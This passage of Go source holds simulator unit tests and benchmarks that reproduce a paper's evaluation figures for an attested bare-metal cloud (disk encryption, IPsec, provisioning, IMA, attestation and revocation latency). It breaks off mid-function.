		t.Fatalf("woke at %v, want 90s", wake)
	}
}

func TestProcInterleaving(t *testing.T) {
	s := New(1)
	var trace []string
	mk := func(name string, d time.Duration) {
		s.Go(name, func(p *Proc) {
			p.Sleep(d)
			trace = append(trace, name)
			p.Sleep(d)
			trace = append(trace, name)
		})
	}
	mk("a", 1*time.Second)
	mk("b", 3*time.Second)
	s.Run()
	want := []string{"a", "a", "b", "b"}
	for i := range want {
		if trace[i] != want[i] {
			t.Fatalf("trace = %v, want %v", trace, want)
		}
	}
}

func TestResourceSerializes(t *testing.T) {
	s := New(1)
	r := s.NewResource("airlock", 1)
	var finish []time.Duration
	for i := 0; i < 3; i++ {
		s.Go("worker", func(p *Proc) {
			p.Acquire(r)
			p.Sleep(10 * time.Second)
			r.Release()
			finish = append(finish, p.Now())
		})
	}
	end := s.Run()
	if end != 30*time.Second {
		t.Fatalf("end = %v, want 30s (serialized)", end)
	}
	want := []time.Duration{10 * time.Second, 20 * time.Second, 30 * time.Second}
	for i := range want {
		if finish[i] != want[i] {
			t.Fatalf("finish times = %v, want %v", finish, want)
		}
	}
}

func TestResourceParallelCapacity(t *testing.T) {
	s := New(1)
	r := s.NewResource("pool", 2)
	for i := 0; i < 4; i++ {
		s.Go("worker", func(p *Proc) {
			p.Acquire(r)
			p.Sleep(10 * time.Second)
			r.Release()
		})
	}
	if end := s.Run(); end != 20*time.Second {
		t.Fatalf("end = %v, want 20s (two waves of two)", end)
	}
}

func TestResourceFIFO(t *testing.T) {
	s := New(1)
	r := s.NewResource("r", 1)
	var order []string
	for _, name := range []string{"first", "second", "third"} {
		name := name
		s.Go(name, func(p *Proc) {
			p.Acquire(r)
			order = append(order, name)
			p.Sleep(time.Second)
			r.Release()
		})
	}
	s.Run()
	want := []string{"first", "second", "third"}
	for i := range want {
		if order[i] != want[i] {
			t.Fatalf("order = %v, want %v", order, want)
		}
	}
}

func TestUseReleasesOnReturn(t *testing.T) {
	s := New(1)
	r := s.NewResource("r", 1)
	s.Go("a", func(p *Proc) {
		p.Use(r, func() { p.Sleep(time.Second) })
	})
	s.Go("b", func(p *Proc) {
		p.Acquire(r)
		r.Release()
	})
	s.Run()
	if r.InUse() != 0 {
		t.Fatalf("resource still in use after Run")
	}
}

func TestGateBroadcast(t *testing.T) {
	s := New(1)
	g := s.NewGate()
	var woke int
	for i := 0; i < 5; i++ {
		s.Go("waiter", func(p *Proc) {
			p.Wait(g)
			woke++
		})
	}
	s.At(42*time.Second, func() { g.Open() })
	end := s.Run()
	if woke != 5 {
		t.Fatalf("woke = %d, want 5", woke)
	}
	if end != 42*time.Second {
		t.Fatalf("end = %v, want 42s", end)
	}
	// A late waiter passes straight through an open gate.
	s2 := New(1)
	g2 := s2.NewGate()
	g2.Open()
	passed := false
	s2.Go("late", func(p *Proc) { p.Wait(g2); passed = true })
	s2.Run()
	if !passed {
		t.Fatal("late waiter blocked on open gate")
	}
}

func TestDeadlockPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("deadlocked Run did not panic")
		}
	}()
	s := New(1)
	r := s.NewResource("r", 1)
	s.Go("holder", func(p *Proc) {
		p.Acquire(r)
		// Never releases; the second acquirer deadlocks.
	})
	s.Go("blocked", func(p *Proc) {
		p.Acquire(r)
	})
	s.Run()
}

func TestWaitGroupForkJoin(t *testing.T) {
	s := New(1)
	var joined time.Duration
	s.Go("parent", func(p *Proc) {
		wg := s.NewWaitGroup(3)
		for i := 1; i <= 3; i++ {
			d := time.Duration(i) * 10 * time.Second
			s.Go("child", func(c *Proc) {
				c.Sleep(d)
				wg.Done()
			})
		}
		p.WaitFor(wg)
		joined = p.Now()
	})
	s.Run()
	if joined != 30*time.Second {
		t.Fatalf("joined at %v, want 30s (slowest child)", joined)
	}
	// Waiting on a drained group returns immediately.
	s2 := New(1)
	ok := false
	s2.Go("p", func(p *Proc) {
		wg := s2.NewWaitGroup(0)
		p.WaitFor(wg)
		ok = true
	})
	s2.Run()
	if !ok {
		t.Fatal("WaitFor on empty group blocked")
	}
}

func TestDeterminism(t *testing.T) {
	run := func() []time.Duration {
		s := New(7)
		r := s.NewResource("r", 3)
		var out []time.Duration
		for i := 0; i < 20; i++ {
			s.Go("w", func(p *Proc) {
				d := time.Duration(s.Rand().Intn(1000)) * time.Millisecond
				p.Sleep(d)
				p.Acquire(r)
				p.Sleep(time.Second)
				r.Release()
				out = append(out, p.Now())
			})
		}
		s.Run()
		return out
	}
	a, b := run(), run()
	if len(a) != len(b) {
		t.Fatal("different lengths across runs")
	}
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("run diverged at %d: %v vs %v", i, a[i], b[i])
		}
	}
}
