// Benchmarks regenerating every figure of the paper's evaluation (§7).
// Each BenchmarkFigN corresponds to one figure; `go test -bench .`
// prints the measurements, and cmd/boltedsim renders the same data as
// tables. EXPERIMENTS.md records paper-vs-measured for each.
package bolted_test

import (
	"context"
	"crypto/aes"
	"crypto/cipher"
	"fmt"
	"net/http/httptest"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"bolted/internal/blockdev"
	"bolted/internal/bmi"
	"bolted/internal/ceph"
	"bolted/internal/core"
	"bolted/internal/guard"
	"bolted/internal/ima"
	"bolted/internal/ipsec"
	"bolted/internal/keylime"
	"bolted/internal/luks"
	"bolted/internal/npb"
	"bolted/internal/obs"
	"bolted/internal/remote"
	"bolted/internal/softaes"
	"bolted/internal/store"
	"bolted/internal/tpm"
	"bolted/internal/workload"
	"bolted/internal/xts"
)

// --- Figure 3a: LUKS overhead on a RAM disk (dd) ---

func fig3aDevice(b *testing.B, encrypted bool) blockdev.Device {
	b.Helper()
	disk, err := blockdev.NewRAMDisk(64 << 20)
	if err != nil {
		b.Fatal(err)
	}
	if !encrypted {
		return disk
	}
	vol, err := luks.FormatWithIterations(disk, []byte("bench"), 16)
	if err != nil {
		b.Fatal(err)
	}
	return vol
}

func BenchmarkFig3aLUKSRAMDisk(b *testing.B) {
	const block = 1 << 20 // dd bs=1M
	for _, enc := range []struct {
		name string
		on   bool
	}{{"plain", false}, {"luks", true}} {
		for _, op := range []string{"write", "read"} {
			b.Run(enc.name+"/"+op, func(b *testing.B) {
				dev := fig3aDevice(b, enc.on)
				buf := make([]byte, block)
				for i := range buf {
					buf[i] = byte(i)
				}
				sectors := int64(block / blockdev.SectorSize)
				span := dev.NumSectors() / sectors * sectors
				if op == "read" {
					for off := int64(0); off < span; off += sectors {
						if err := dev.WriteSectors(buf, off); err != nil {
							b.Fatal(err)
						}
					}
				}
				b.SetBytes(block)
				b.ResetTimer()
				for i := 0; i < b.N; i++ {
					off := (int64(i) * sectors) % span
					var err error
					if op == "write" {
						err = dev.WriteSectors(buf, off)
					} else {
						err = dev.ReadSectors(buf, off)
					}
					if err != nil {
						b.Fatal(err)
					}
				}
			})
		}
	}
}

// --- Figure 3b: IPsec overhead (iperf-style stream) ---

func BenchmarkFig3bIPsec(b *testing.B) {
	const streamLen = 1 << 20
	stream := make([]byte, streamLen)
	for i := range stream {
		stream[i] = byte(i * 7)
	}
	run := func(b *testing.B, seal func([]byte) error) {
		b.SetBytes(streamLen)
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if err := seal(stream); err != nil {
				b.Fatal(err)
			}
		}
	}
	b.Run("plaintext", func(b *testing.B) {
		sink := make([]byte, streamLen)
		run(b, func(s []byte) error {
			copy(sink, s)
			return nil
		})
	})
	for _, cfg := range []struct {
		name  string
		suite ipsec.Suite
		mtu   int
	}{
		{"hw-aes/mtu1500", ipsec.SuiteHWAES, 1500},
		{"hw-aes/mtu9000", ipsec.SuiteHWAES, 9000},
		{"sw-aes/mtu1500", ipsec.SuiteSWAES, 1500},
		{"sw-aes/mtu9000", ipsec.SuiteSWAES, 9000},
	} {
		b.Run(cfg.name, func(b *testing.B) {
			tx, rx, err := ipsec.NewPair(cfg.suite, ipsec.NewMasterKey())
			if err != nil {
				b.Fatal(err)
			}
			run(b, func(s []byte) error {
				pkts, err := ipsec.SegmentStream(tx, s, cfg.mtu)
				if err != nil {
					return err
				}
				_, err = ipsec.ReassembleStream(rx, pkts)
				return err
			})
		})
	}
}

// --- Figure 3c: network-mounted storage (iSCSI + Ceph) ---

func fig3cStack(b *testing.B, withLUKS, withIPsec bool, readAhead int64) blockdev.Device {
	b.Helper()
	cluster, err := ceph.NewCluster(3, 2)
	if err != nil {
		b.Fatal(err)
	}
	img, err := ceph.NewImageDevice(cluster, "bench", 64<<20)
	if err != nil {
		b.Fatal(err)
	}
	var transport blockdev.Transport = blockdev.Loopback{Target: blockdev.NewTarget(img)}
	if withIPsec {
		tr, err := blockdev.NewIPsecTransport(transport, ipsec.SuiteHWAES, 9000)
		if err != nil {
			b.Fatal(err)
		}
		transport = tr
	}
	client, err := blockdev.NewClient(transport, readAhead)
	if err != nil {
		b.Fatal(err)
	}
	if !withLUKS {
		return client
	}
	vol, err := luks.FormatWithIterations(client, []byte("bench"), 16)
	if err != nil {
		b.Fatal(err)
	}
	return vol
}

func BenchmarkFig3cNetStorage(b *testing.B) {
	const block = 1 << 20
	for _, cfg := range []struct {
		name        string
		luks, ipsec bool
	}{
		{"plain", false, false},
		{"luks", true, false},
		{"ipsec", false, true},
		{"luks+ipsec", true, true},
	} {
		for _, op := range []string{"write", "read"} {
			b.Run(cfg.name+"/"+op, func(b *testing.B) {
				dev := fig3cStack(b, cfg.luks, cfg.ipsec, blockdev.TunedReadAhead)
				buf := make([]byte, block)
				sectors := int64(block / blockdev.SectorSize)
				span := dev.NumSectors() / sectors * sectors
				if op == "read" {
					for off := int64(0); off < span; off += sectors {
						if err := dev.WriteSectors(buf, off); err != nil {
							b.Fatal(err)
						}
					}
				}
				b.SetBytes(block)
				b.ResetTimer()
				for i := 0; i < b.N; i++ {
					off := (int64(i) * sectors) % span
					var err error
					if op == "write" {
						err = dev.WriteSectors(buf, off)
					} else {
						err = dev.ReadSectors(buf, off)
					}
					if err != nil {
						b.Fatal(err)
					}
				}
			})
		}
	}
}

// BenchmarkAblationReadAhead isolates the Figure-3c tuning note: the
// 8 MiB read-ahead (vs the 128 KiB default) collapses wire round trips
// for sequential reads against 4 MiB Ceph objects.
func BenchmarkAblationReadAhead(b *testing.B) {
	for _, ra := range []struct {
		name string
		val  int64
	}{{"default-128KiB", blockdev.DefaultReadAhead}, {"tuned-8MiB", blockdev.TunedReadAhead}} {
		b.Run(ra.name, func(b *testing.B) {
			dev := fig3cStack(b, false, false, ra.val)
			client := dev.(*blockdev.Client)
			buf := make([]byte, 64<<10)
			sectors := int64(len(buf) / blockdev.SectorSize)
			span := dev.NumSectors() / sectors * sectors
			b.SetBytes(int64(len(buf)))
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				off := (int64(i) * sectors) % span
				if err := dev.ReadSectors(buf, off); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric(float64(client.NetReads())/float64(b.N), "round-trips/op")
		})
	}
}

// --- Figure 4: provisioning time of one server ---

func BenchmarkFig4Provisioning(b *testing.B) {
	for _, cfg := range []struct {
		name string
		pc   core.ProvisionConfig
	}{
		{"foreman", core.ProvisionConfig{Foreman: true}},
		{"uefi/no-attestation", core.ProvisionConfig{Firmware: core.FirmwareUEFI, Security: core.SecNone}},
		{"uefi/attestation", core.ProvisionConfig{Firmware: core.FirmwareUEFI, Security: core.SecAttested}},
		{"uefi/full-attestation", core.ProvisionConfig{Firmware: core.FirmwareUEFI, Security: core.SecFull}},
		{"linuxboot/no-attestation", core.ProvisionConfig{Firmware: core.FirmwareLinuxBoot, Security: core.SecNone}},
		{"linuxboot/attestation", core.ProvisionConfig{Firmware: core.FirmwareLinuxBoot, Security: core.SecAttested}},
		{"linuxboot/full-attestation", core.ProvisionConfig{Firmware: core.FirmwareLinuxBoot, Security: core.SecFull}},
	} {
		b.Run(cfg.name, func(b *testing.B) {
			var last *core.ProvisionResult
			for i := 0; i < b.N; i++ {
				last = core.SimulateProvisioning(cfg.pc)
			}
			b.ReportMetric(last.Makespan.Seconds(), "boot-sec")
		})
	}
}

// --- Figure 5: concurrent provisioning ---

func BenchmarkFig5Concurrency(b *testing.B) {
	for _, sec := range []core.SecurityLevel{core.SecNone, core.SecAttested} {
		for _, n := range []int{1, 2, 4, 8, 16} {
			b.Run(fmt.Sprintf("%s/nodes-%d", sec, n), func(b *testing.B) {
				cfg := core.DefaultProvisionConfig()
				cfg.Firmware = core.FirmwareUEFI
				cfg.Security = sec
				cfg.Concurrency = n
				var last *core.ProvisionResult
				for i := 0; i < b.N; i++ {
					last = core.SimulateProvisioning(cfg)
				}
				b.ReportMetric(last.Makespan.Seconds(), "makespan-sec")
			})
		}
	}
}

// BenchmarkAblationAirlocks removes the prototype's single-airlock
// limitation (§7.3: "we intend to address it"). The airlock count
// flows through core.PoolPolicy via WithPool — the same configuration
// the real provisioner's attestation semaphore reads — so the model
// and the functional pipeline agree by construction.
func BenchmarkAblationAirlocks(b *testing.B) {
	for _, locks := range []int{1, 4, 16} {
		b.Run(fmt.Sprintf("airlocks-%d", locks), func(b *testing.B) {
			pool := core.DefaultPoolPolicy()
			pool.Airlocks = locks
			cfg := core.DefaultProvisionConfig().WithPool(pool)
			cfg.Firmware = core.FirmwareUEFI
			cfg.Security = core.SecAttested
			cfg.Concurrency = 16
			var last *core.ProvisionResult
			for i := 0; i < b.N; i++ {
				last = core.SimulateProvisioning(cfg)
			}
			b.ReportMetric(last.Makespan.Seconds(), "makespan-sec")
		})
	}
}

// --- Figure 6: IMA overhead on a kernel compile ---

func BenchmarkFig6IMA(b *testing.B) {
	for _, threads := range []int{1, 2, 4, 8, 16, 32} {
		for _, withIMA := range []bool{false, true} {
			name := fmt.Sprintf("threads-%d/ima-%v", threads, withIMA)
			b.Run(name, func(b *testing.B) {
				for i := 0; i < b.N; i++ {
					b.StopTimer()
					var col *ima.Collector
					if withIMA {
						tp, err := tpm.New()
						if err != nil {
							b.Fatal(err)
						}
						col = ima.NewCollector(tp, ima.StressPolicy)
					}
					spec := workload.CompileSpec{
						Files: 600, FileBytes: 8 << 10,
						Threads: threads, WorkFactor: 30, IMA: col,
					}
					b.StartTimer()
					workload.RunKernelCompile(spec)
				}
			})
		}
	}
}

// --- Figure 7: macro-benchmarks under security configurations ---

func BenchmarkFig7Macro(b *testing.B) {
	for _, app := range workload.Figure7Apps {
		for _, sec := range workload.AllSecConfigs {
			b.Run(app.Name+"/"+sec.String(), func(b *testing.B) {
				var rt time.Duration
				for i := 0; i < b.N; i++ {
					rt = app.Runtime(sec)
				}
				b.ReportMetric(rt.Seconds(), "runtime-sec")
				b.ReportMetric(app.Degradation(sec)*100, "degradation-%")
			})
		}
	}
}

// --- §7.4: continuous attestation detection and revocation latency ---

func newAttestedPair(b *testing.B) (*core.Enclave, *core.Node, *core.Node) {
	b.Helper()
	cfg := core.DefaultConfig()
	cfg.Nodes = 2
	cloud, err := core.NewCloud(cfg)
	if err != nil {
		b.Fatal(err)
	}
	if _, err := cloud.BMI.CreateOSImage("os", bmi.OSImageSpec{
		KernelID: "k", Kernel: []byte("kernel"), Initrd: []byte("initrd"),
	}); err != nil {
		b.Fatal(err)
	}
	e, err := core.NewEnclave(cloud, "charlie", core.ProfileCharlie)
	if err != nil {
		b.Fatal(err)
	}
	e.IMAWhitelist().AllowContent("/usr/bin/app", []byte("app"))
	n1, err := e.AcquireNode(context.Background(), "os")
	if err != nil {
		b.Fatal(err)
	}
	n2, err := e.AcquireNode(context.Background(), "os")
	if err != nil {
		b.Fatal(err)
	}
	return e, n1, n2
}

// BenchmarkContinuousAttestationDetect measures the verifier check that
// detects a policy violation (paper: under one second).
func BenchmarkContinuousAttestationDetect(b *testing.B) {
	e, n1, _ := newAttestedPair(b)
	n1.IMA.Measure("/usr/bin/app", []byte("app"), ima.HookExec, 0)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := e.Verifier().CheckIMA(n1.Name); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkContinuousAttestationRevoke measures detect → revoke →
// cryptographic ban end to end (paper: ~3 s including IPsec teardown on
// every peer; in-process fan-out is far faster, see EXPERIMENTS.md).
func BenchmarkContinuousAttestationRevoke(b *testing.B) {
	for i := 0; i < b.N; i++ {
		b.StopTimer()
		e, n1, n2 := newAttestedPair(b)
		n1.IMA.Measure("/usr/bin/app", []byte("app"), ima.HookExec, 0)
		b.StartTimer()

		n1.IMA.Measure("/tmp/evil", []byte("dropper"), ima.HookExec, 0)
		v, err := e.Verifier().CheckIMA(n1.Name)
		if err != nil || len(v) == 0 {
			b.Fatalf("violation not detected: %v %v", v, err)
		}
		if _, err := e.Send(n1.Name, n2.Name, []byte("x")); err == nil {
			b.Fatal("revoked node still connected")
		}
	}
}

// BenchmarkKeylimeQuote measures the attestation quote+verify round
// trip (the serialized airlock section's CPU component).
func BenchmarkKeylimeQuote(b *testing.B) {
	e, n1, _ := newAttestedPair(b)
	_ = e
	nonce := []byte("bench-nonce")
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		q, err := n1.Machine.TPM().Quote(nonce, keylime.BootPCRSelection())
		if err != nil {
			b.Fatal(err)
		}
		if err := tpm.VerifyQuote(n1.Machine.TPM().AIKPublic(), q, nonce); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkFig7FilebenchReal drives the real Filebench-style workload
// (mixed file ops on a real filesystem) over the four §7.5 stacks —
// the functional counterpart of the Figure-7 VM bars.
func BenchmarkFig7FilebenchReal(b *testing.B) {
	spec := workload.DefaultFilebenchSpec()
	spec.Files = 20
	spec.FileBytes = 16 << 10
	spec.Ops = 100

	stacks := []struct {
		name string
		mk   func(b *testing.B) blockdev.Device
	}{
		{"plain", func(b *testing.B) blockdev.Device {
			d, err := blockdev.NewRAMDisk(32 << 20)
			if err != nil {
				b.Fatal(err)
			}
			return d
		}},
		{"luks", func(b *testing.B) blockdev.Device {
			d, _ := blockdev.NewRAMDisk(32 << 20)
			v, err := luks.FormatWithIterations(d, []byte("k"), 16)
			if err != nil {
				b.Fatal(err)
			}
			return v
		}},
		{"nbd", func(b *testing.B) blockdev.Device {
			d, _ := blockdev.NewRAMDisk(32 << 20)
			c, err := blockdev.NewClient(blockdev.Loopback{Target: blockdev.NewTarget(d)}, blockdev.DefaultReadAhead)
			if err != nil {
				b.Fatal(err)
			}
			return c
		}},
		{"nbd+ipsec+luks", func(b *testing.B) blockdev.Device {
			d, _ := blockdev.NewRAMDisk(32 << 20)
			tr, err := blockdev.NewIPsecTransport(blockdev.Loopback{Target: blockdev.NewTarget(d)}, ipsec.SuiteHWAES, 9000)
			if err != nil {
				b.Fatal(err)
			}
			c, err := blockdev.NewClient(tr, blockdev.DefaultReadAhead)
			if err != nil {
				b.Fatal(err)
			}
			v, err := luks.FormatWithIterations(c, []byte("k"), 16)
			if err != nil {
				b.Fatal(err)
			}
			return v
		}},
	}
	for _, stack := range stacks {
		b.Run(stack.name, func(b *testing.B) {
			var last *workload.FilebenchResult
			for i := 0; i < b.N; i++ {
				res, err := workload.RunFilebench(stack.mk(b), spec)
				if err != nil || res.Errors > 0 {
					b.Fatalf("%v (%d errors)", err, res.Errors)
				}
				last = res
			}
			b.ReportMetric(last.OpsPerSecond(), "file-ops/sec")
		})
	}
}

// --- real NPB mini-kernels (Figure 7's workloads, actually executed) ---

// BenchmarkNPBKernels measures the real kernels in plain vs
// IPsec-sealed message-passing worlds. In-process communication mutes
// absolute slowdowns (see EXPERIMENTS.md); the kernels' message
// profiles are asserted by internal/npb tests.
func BenchmarkNPBKernels(b *testing.B) {
	kernels := []struct {
		name string
		run  func(w *npb.World) error
	}{
		{"EP", func(w *npb.World) error { _, err := npb.RunEP(w, 50_000); return err }},
		{"CG", func(w *npb.World) error { _, err := npb.RunCG(w, npb.DefaultCGConfig()); return err }},
		{"MG", func(w *npb.World) error { _, err := npb.RunMG(w, npb.DefaultMGConfig()); return err }},
		{"FT", func(w *npb.World) error { _, err := npb.RunFT(w, npb.DefaultFTConfig()); return err }},
	}
	for _, k := range kernels {
		for _, secure := range []bool{false, true} {
			name := fmt.Sprintf("%s/ipsec-%v", k.name, secure)
			b.Run(name, func(b *testing.B) {
				for i := 0; i < b.N; i++ {
					w, err := npb.NewWorld(4, secure)
					if err != nil {
						b.Fatal(err)
					}
					if err := k.run(w); err != nil {
						b.Fatal(err)
					}
				}
			})
		}
	}
}

// BenchmarkAcquireNodesParallel compares the paper prototype's serial
// acquisition loop against the concurrent batch pipeline for the same
// node count — the perf baseline for future provisioning work. The
// batch path also shares one boot-info extraction per batch.
func BenchmarkAcquireNodesParallel(b *testing.B) {
	for _, n := range []int{1, 4, 8} {
		for _, mode := range []string{"serial", "batch"} {
			b.Run(fmt.Sprintf("%s/nodes-%d", mode, n), func(b *testing.B) {
				cfg := core.DefaultConfig()
				cfg.Nodes = n
				for i := 0; i < b.N; i++ {
					b.StopTimer()
					cloud, err := core.NewCloud(cfg)
					if err != nil {
						b.Fatal(err)
					}
					if _, err := cloud.BMI.CreateOSImage("os", bmi.OSImageSpec{
						KernelID: "k", Kernel: []byte("kernel"), Initrd: []byte("initrd"),
					}); err != nil {
						b.Fatal(err)
					}
					e, err := core.NewEnclave(cloud, "t", core.ProfileBob)
					if err != nil {
						b.Fatal(err)
					}
					b.StartTimer()
					if mode == "serial" {
						for j := 0; j < n; j++ {
							if _, err := e.AcquireNode(context.Background(), "os"); err != nil {
								b.Fatal(err)
							}
						}
					} else {
						res, err := e.AcquireNodes(context.Background(), "os", n)
						if err != nil {
							b.Fatal(err)
						}
						if len(res.Nodes) != n {
							b.Fatalf("allocated %d of %d", len(res.Nodes), n)
						}
					}
				}
				b.ReportMetric(float64(n), "nodes/batch")
			})
		}
	}
}

// BenchmarkEnclaveAcquire measures the full functional lifecycle
// (allocate → airlock → attest → provision → kexec) in process.
func BenchmarkEnclaveAcquire(b *testing.B) {
	for _, profile := range []core.Profile{core.ProfileAlice, core.ProfileBob, core.ProfileCharlie} {
		b.Run(profile.Name, func(b *testing.B) {
			cfg := core.DefaultConfig()
			cfg.Nodes = 1
			for i := 0; i < b.N; i++ {
				b.StopTimer()
				cloud, err := core.NewCloud(cfg)
				if err != nil {
					b.Fatal(err)
				}
				cloud.BMI.CreateOSImage("os", bmi.OSImageSpec{
					KernelID: "k", Kernel: []byte("kernel"), Initrd: []byte("initrd"),
				})
				e, err := core.NewEnclave(cloud, "t", profile)
				if err != nil {
					b.Fatal(err)
				}
				b.StartTimer()
				if _, err := e.AcquireNode(context.Background(), "os"); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkAcquireNodesTransport compares the full concurrent batch
// pipeline in process against the identical pipeline driven entirely
// over boltedd's wire API (HIL + BMI + registrar + node plane over
// HTTP) — the overhead a tenant pays for trusting nothing but the
// service plane's network interface. CI emits this comparison as
// BENCH_provisioning.json.
func BenchmarkAcquireNodesTransport(b *testing.B) {
	const batch = 4
	seed := func(b *testing.B) *core.Cloud {
		cfg := core.DefaultConfig()
		cfg.Nodes = batch
		cloud, err := core.NewCloud(cfg)
		if err != nil {
			b.Fatal(err)
		}
		if _, err := cloud.BMI.CreateOSImage("os", bmi.OSImageSpec{
			KernelID: "k", Kernel: []byte("kernel"), Initrd: []byte("initrd"),
		}); err != nil {
			b.Fatal(err)
		}
		return cloud
	}
	run := func(b *testing.B, cloud *core.Cloud) {
		e, err := core.NewEnclave(cloud, "t", core.ProfileBob)
		if err != nil {
			b.Fatal(err)
		}
		res, err := e.AcquireNodes(context.Background(), "os", batch)
		if err != nil {
			b.Fatal(err)
		}
		if len(res.Nodes) != batch {
			b.Fatalf("allocated %d of %d", len(res.Nodes), batch)
		}
	}

	b.Run("in-process", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			b.StopTimer()
			cloud := seed(b)
			b.StartTimer()
			run(b, cloud)
		}
		b.ReportMetric(batch, "nodes/batch")
	})
	b.Run("http", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			b.StopTimer()
			serverCloud := seed(b)
			handler, err := remote.NewHandler(serverCloud)
			if err != nil {
				b.Fatal(err)
			}
			srv := httptest.NewServer(handler)
			cloud, err := remote.Dial(srv.URL)
			if err != nil {
				b.Fatal(err)
			}
			b.StartTimer()
			run(b, cloud)
			b.StopTimer()
			srv.Close()
			b.StartTimer()
		}
		b.ReportMetric(batch, "nodes/batch")
	})
	// The /v1 control plane runs the same batch server-side as an async
	// Operation: the tenant's only wire traffic is submit + wait. The
	// submit-ns metric is what a tenant blocks for before the Operation
	// id comes back — the async win over the blocking paths above.
	b.Run("v1-async", func(b *testing.B) {
		var submit time.Duration
		for i := 0; i < b.N; i++ {
			b.StopTimer()
			serverCloud := seed(b)
			handler, err := remote.NewHandler(serverCloud)
			if err != nil {
				b.Fatal(err)
			}
			srv := httptest.NewServer(handler)
			cli := remote.NewV1Client(srv.URL)
			if _, err := cli.CreateEnclave(context.Background(), "t", "bob"); err != nil {
				b.Fatal(err)
			}
			b.StartTimer()
			t0 := time.Now()
			op, err := cli.Acquire(context.Background(), "t", "os", batch)
			if err != nil {
				b.Fatal(err)
			}
			submit += time.Since(t0)
			final, err := cli.WaitOperation(context.Background(), op.ID)
			if err != nil {
				b.Fatal(err)
			}
			if final.Result == nil || len(final.Result.Nodes) != batch {
				b.Fatalf("operation %s = %+v", op.ID, final)
			}
			b.StopTimer()
			srv.Close()
			b.StartTimer()
		}
		b.ReportMetric(batch, "nodes/batch")
		b.ReportMetric(float64(submit.Nanoseconds())/float64(b.N), "submit-ns")
	})
}

// BenchmarkAcquireNodesWarm is the warm-pool acceptance benchmark,
// emitted by CI as BENCH_pool.json. The model sub-benchmarks run the
// calibrated timing model for an 8-node attested batch on stock UEFI
// firmware — the deployment where every cold acquisition pays the full
// POST → PXE → iPXE → Heads → attest chain the warm pool amortizes —
// across airlock counts (airlocks=1 is the §7.3 prototype). The
// functional sub-benchmarks run the real pipeline (in-process cloud)
// cold and against a pre-warmed pool. Expectations: warm ≥ 2× faster
// than cold at every airlock count, and cold/warm makespans both
// shrink as airlocks grow.
func BenchmarkAcquireNodesWarm(b *testing.B) {
	const batch = 8
	for _, mode := range []string{"cold", "warm"} {
		for _, locks := range []int{1, 2, 4} {
			b.Run(fmt.Sprintf("model/%s/airlocks-%d", mode, locks), func(b *testing.B) {
				pool := core.DefaultPoolPolicy()
				pool.Airlocks = locks
				if mode == "warm" {
					pool.Target = batch
				}
				cfg := core.DefaultProvisionConfig().WithPool(pool)
				cfg.Firmware = core.FirmwareUEFI
				cfg.Security = core.SecAttested
				cfg.Concurrency = batch
				var last *core.ProvisionResult
				for i := 0; i < b.N; i++ {
					last = core.SimulateProvisioning(cfg)
				}
				b.ReportMetric(last.Makespan.Seconds(), "makespan-sec")
				b.ReportMetric(last.PerNode[0].Seconds(), "node0-sec")
			})
		}
	}

	seed := func(b *testing.B, warmTarget int) *core.Enclave {
		b.Helper()
		cfg := core.DefaultConfig()
		cfg.Nodes = batch
		cloud, err := core.NewCloud(cfg)
		if err != nil {
			b.Fatal(err)
		}
		if _, err := cloud.BMI.CreateOSImage("os", bmi.OSImageSpec{
			KernelID: "k", Kernel: []byte("kernel"), Initrd: []byte("initrd"),
		}); err != nil {
			b.Fatal(err)
		}
		e, err := core.NewEnclave(cloud, "t", core.ProfileBob)
		if err != nil {
			b.Fatal(err)
		}
		if warmTarget > 0 {
			pol := core.DefaultPoolPolicy()
			pol.Target = warmTarget
			pol.MaxRefill = warmTarget
			if err := e.ConfigurePool(pol); err != nil {
				b.Fatal(err)
			}
			deadline := time.Now().Add(30 * time.Second)
			for {
				st, _ := e.PoolStats()
				if st.Warm >= warmTarget {
					break
				}
				if time.Now().After(deadline) {
					b.Fatalf("pool never warmed: %+v", st)
				}
				time.Sleep(time.Millisecond)
			}
		}
		return e
	}
	for _, mode := range []string{"cold", "warm"} {
		b.Run("functional/"+mode, func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				b.StopTimer()
				target := 0
				if mode == "warm" {
					target = batch
				}
				e := seed(b, target)
				b.StartTimer()
				res, err := e.AcquireNodes(context.Background(), "os", batch)
				if err != nil {
					b.Fatal(err)
				}
				if len(res.Nodes) != batch {
					b.Fatalf("allocated %d of %d", len(res.Nodes), batch)
				}
				b.StopTimer()
				if mode == "warm" {
					if p := res.Timings.ByPhase(core.PhaseWarmRequote); p.Nodes != batch {
						b.Fatalf("warm batch took the cold path: %+v", res.Timings.Phases)
					}
				}
				e.ClosePool()
				b.StartTimer()
			}
			b.ReportMetric(batch, "nodes/batch")
		})
	}
}

// BenchmarkGuardQuarantine measures the runtime attestation guard's
// incident-response latencies across enclave sizes: detect-quarantine
// is the span from IMA violation injection to the EvQuarantined
// journal record (guard round cadence 2 ms, so the measured figure is
// dominated by check+quote+teardown, not by waiting for the tick);
// rekey is one enclave-wide PSK rotation — the O(members^2) pairwise
// SA rebuild every incident pays. CI emits these as BENCH_guard.json
// next to BENCH_provisioning.json.
func BenchmarkGuardQuarantine(b *testing.B) {
	build := func(b *testing.B, nodes int) (*core.Cloud, *core.Manager, *core.Enclave, *core.BatchResult) {
		cfg := core.DefaultConfig()
		cfg.Nodes = nodes
		cloud, err := core.NewCloud(cfg)
		if err != nil {
			b.Fatal(err)
		}
		if _, err := cloud.BMI.CreateOSImage("os", bmi.OSImageSpec{
			KernelID: "k", Kernel: []byte("kernel"), Initrd: []byte("initrd"),
		}); err != nil {
			b.Fatal(err)
		}
		mgr := core.NewManager(cloud)
		e, err := mgr.CreateEnclave("t", core.ProfileCharlie)
		if err != nil {
			b.Fatal(err)
		}
		e.IMAWhitelist().AllowContent("/usr/bin/app", []byte("app-v1"))
		op, err := mgr.StartAcquire("t", "os", nodes)
		if err != nil {
